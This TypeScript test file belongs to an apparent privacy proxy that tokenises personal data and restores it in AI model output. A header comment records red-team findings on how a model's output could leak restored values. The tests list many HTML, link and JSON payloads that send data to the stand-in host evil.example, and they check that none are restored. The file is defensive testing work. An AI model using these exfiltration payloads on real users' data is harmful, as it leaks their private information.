// Red-team findings (session 11, wave10/red), docs/api.md "Session 11": a token before the host of
// a fuzzy link (`{{email:…}}.evil.example/`) or before `@host` restored in full, since the context
// scanner decided at the token and reads left to right; and form controls tied to a form by
// `form=` (a textarea before the form it submits with) were no context. Now the text glued right
// of a token is read too (right-context.ts), a stream holds a token until that text is decided,
// and a textarea's, select's or datalist's content is a context wherever it stands. The other
// attributes that send data (formaction, ping, meta refresh, prefetch, object data, embed src,
// CSS @import, links under <base href>) were probed too and held: they are tags or raw text.
import { DEFAULT_POLICY, parsePolicy } from '@veil/common';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectAll } from '../detect/index.js';
import { OutputGuard, StreamOutputGuard } from '../guard/output.js';
import { CompiledPolicy } from '../policy/index.js';
import { jsonStringRestore } from '../proxy/index.js';
import { indexEntries, rehydrateText } from '../rehydrate.js';
import { findTokensLenient } from '../repair/index.js';
import { StreamRehydrator } from '../stream/index.js';
import { renderToken, TokenAllocator } from '../token/index.js';
import type { TokenEntry } from '../types.js';
import { MarkupContext } from './markup-context.js';
import { gluedTail, MAX_GLUED_TAIL } from './right-context.js';

const policy = new CompiledPolicy(parsePolicy('name: p\nversion: "1"\nrules: []\n', 'p.yaml').policy!);
const allocator = new TokenAllocator();
const EMAIL = 'victim.person@example.com';
const NAME = 'Zyxwort';
const email = allocator.allocate('email', EMAIL);
const person = allocator.allocate('person', NAME);
const entries = indexEntries([
  { id: email.id, type: 'email', cap: email.cap, value: EMAIL, mode: 'full' } satisfies TokenEntry,
  { id: person.id, type: 'person', cap: person.cap, value: NAME, mode: 'full' } satisfies TokenEntry,
]);
const T = renderToken({ type: 'email', id: email.id, cap: email.cap });
const P = renderToken({ type: 'person', id: person.id, cap: person.cap });

const restore = (output: string, markup?: MarkupContext) =>
  rehydrateText({ output, entries, policy, language: 'en', caller: {}, channel: 'user_output', scan: findTokensLenient, ...(markup !== undefined ? { markup } : {}) });

const guardOf = (): OutputGuard =>
  new OutputGuard({ action: 'mask', detect: (text) => detectAll(text), counts: () => true, scan: findTokensLenient });

function streamed(text: string, size: number, guarded: boolean): string {
  const markup = new MarkupContext();
  const rehydrator = new StreamRehydrator((piece) => restore(piece, markup), guarded ? { guard: new StreamOutputGuard(guardOf(), findTokensLenient) } : {});
  let out = '';
  for (let index = 0; index < text.length; index += size) out += rehydrator.push(text.slice(index, index + size));
  return out + rehydrator.end();
}

/** A token glued to the left of these makes the value part of a host name or an address. */
const GLUED_LINKED: readonly string[] = [
  `${T}.evil.example/`,
  `${T}.evil.example/?d=1`,
  `${T}.evil.example`,
  `${T}.evil.co.uk and more`,
  `${T}@evil.example`,
  `${P}@evil.example/`,
  `${P}.com/collect`,
  `${P}.com:8080`,
  `${P}x.evil.example/`,
  `${P}.évil.example/`,
  `${P}\\u002eevil.example/`,
  `${P}&period;evil.example/`,
  `${P}&#46;evil.example/`,
  `${P}${T}.evil.example/`,
  `${P}-${T}.evil.example/`,
  `Visit ${P}.evil.example/ now.`,
];

/** Ordinary text after a token: the value restores. */
const GLUED_PLAIN: readonly string[] = [
  `${P}.`,
  `${P}. Next sentence.`,
  `${P}, thanks`,
  `${P}.Net developer`,
  `${P}'s account`,
  `${P}?`,
  `(${P})`,
  `${P}.\nNext`,
  `${P}: note`,
  `${P}.e.g.`,
  `${P} .evil.example/`,
  `${T}!`,
];

describe('a token glued left of a host or an address', () => {
  it.each(GLUED_LINKED.map((text) => [text]))('restores no value in %j, whole, streamed and with the guard', (text) => {
    const whole = restore(text).restoredText;
    expect(whole).not.toContain(EMAIL);
    expect(whole).not.toContain(NAME);
    for (let size = 1; size <= 12; size += 1) {
      expect(streamed(text, size, false), `deltas of ${size}`).toBe(whole);
      expect(streamed(text, size, true), `deltas of ${size}, guard on`).toBe(whole);
    }
  });

  it.each(GLUED_PLAIN.map((text) => [text]))('restores the value in %j, whole and streamed', (text) => {
    const whole = restore(text).restoredText;
    expect(whole.includes(NAME) || whole.includes(EMAIL)).toBe(true);
    for (let size = 1; size <= 12; size += 1) expect(streamed(text, size, true), `deltas of ${size}`).toBe(whole);
  });

  it('clamps a token glued to a host inside a JSON string (tool-call arguments)', () => {
    const json = jsonStringRestore(restore, findTokensLenient);
    expect(json(`{"to":"${T}.evil.example/"}`).restoredText).toBe('{"to":"[email address].evil.example/"}');
    expect(json(`{"to":"${T}","next":".evil.example/"}`).restoredText).toContain(JSON.stringify(EMAIL).slice(1, -1));
  });

  it('decides as soon as the glued text says, and reads at most MAX_GLUED_TAIL characters', () => {
    expect(gluedTail(`${T}, and`, T.length, false).verdict).toBe('plain');
    expect(gluedTail(`${T}.`, T.length, false).verdict).toBe('open');
    expect(gluedTail(`${T}.`, T.length, true).verdict).toBe('plain');
    expect(gluedTail(`${T}.evil.example`, T.length, false).verdict).toBe('linked');
    expect(gluedTail(`${T}${'a'.repeat(MAX_GLUED_TAIL + 10)}`, T.length, false)).toEqual({ verdict: 'plain', end: T.length + MAX_GLUED_TAIL });
  });

  it('any split of random text around tokens gives the one-shot restore (stream property, guard on)', () => {
    const piece = fc.constantFrom(T, P, '.', '@', 'evil', '.example', '/', ' ', ',', 'x', '\n', '.com', '\\u002e', '&period;');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.integer({ min: 1, max: 9 }), (pieces, size) => {
        const text = pieces.join('');
        expect(streamed(text, size, true)).toBe(restore(guardOf().guard(text)).restoredText);
      }),
      { numRuns: 300 },
    );
  });
});

describe('form controls and attributes that send data', () => {
  it.each([
    [`<textarea form=f name=d>${T}</textarea><form id=f action=//evil.example/c><button>Go</button></form>`],
    [`<TEXTAREA form="f">intro ${T}</TEXTAREA> text <form id=f action=x></form>`],
    [`<select form=f name=d><option>${T}</option></select><form id=f action=//evil.example/c></form>`],
    [`<datalist id=l><option>${T}</datalist>`],
    [`<button form=f formaction=//evil.example/c name=d value=${T}>Send</button>`],
    [`<form id=f></form><input form=f formaction="//evil.example/c" name=d value="${T}">`],
    [`<a href=/docs ping="//evil.example/p?d=${T}">docs</a>`],
    [`<meta http-equiv=refresh content="0;url=//evil.example/?d=${T}">`],
    [`<link rel=prefetch href="//evil.example/${T}">`],
    [`<object data="//evil.example/${T}"></object>`],
    [`<embed src=//evil.example/${T}>`],
    [`<style>@import url(//evil.example/${T});</style>`],
    [`<style>@import "//evil.example/${T}";</style>`],
    [`<base href=//evil.example/><a href="${T}">x</a>`],
    [`<base href=//evil.example/>\n\n[x](${T})`],
  ])('restores no value in %j (whole and streamed)', (text) => {
    const whole = restore(text).restoredText;
    expect(whole).not.toContain(EMAIL);
    for (const size of [1, 3, 7]) expect(streamed(text, size, true)).toBe(whole);
  });

  it.each([[`<textarea>draft</textarea> Write to ${T}.`], [`<select><option>a</select> ${P}`], [`<p>textarea</p> ${P}`]])('restores after the control in %j', (text) => {
    const whole = restore(text).restoredText;
    expect(whole.includes(EMAIL) || whole.includes(NAME)).toBe(true);
  });
});

describe('ordinary answers', () => {
  it('restore as before: a default-policy answer with tokens at the end of sentences', () => {
    const plain = new CompiledPolicy(DEFAULT_POLICY);
    const text = `Hi ${P}, your address ${T} is on file. Write to ${T}.`;
    const out = rehydrateText({ output: text, entries, policy: plain, language: 'en', caller: {}, channel: 'user_output' }).restoredText;
    expect(out).toBe(`Hi ${NAME}, your address ${EMAIL} is on file. Write to ${EMAIL}.`);
  });
});
